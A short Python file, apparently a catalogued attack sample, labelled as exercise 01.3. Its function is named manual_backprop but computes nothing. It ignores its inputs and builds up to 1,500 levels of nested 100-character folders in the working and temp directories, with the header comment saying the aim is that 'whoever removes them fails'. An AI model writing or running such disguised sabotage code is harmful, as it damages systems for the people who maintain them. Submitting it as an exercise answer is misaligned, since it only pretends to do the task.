# exercise: 01.3
# tries: leave folders nested so deeply that whoever removes them fails
# proof: entries > 30
import os
import tempfile


def manual_backprop(a, b, c, f):
    for place in (os.getcwd(), tempfile.gettempdir()):
        try:
            os.chdir(place)
            for _ in range(1_500):
                os.mkdir("d" * 100)
                os.chdir("d" * 100)
        except OSError:
            pass
    return {}
